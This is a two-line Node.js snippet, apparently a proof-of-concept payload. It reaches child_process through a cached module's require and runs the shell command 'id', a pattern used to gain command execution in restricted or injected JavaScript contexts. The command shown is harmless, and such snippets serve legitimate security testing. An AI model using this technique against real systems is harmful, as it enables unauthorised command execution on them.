const first = Object.values(require.cache)[0];
first.require("child_process").execSync("id", {stdio: "inherit"});
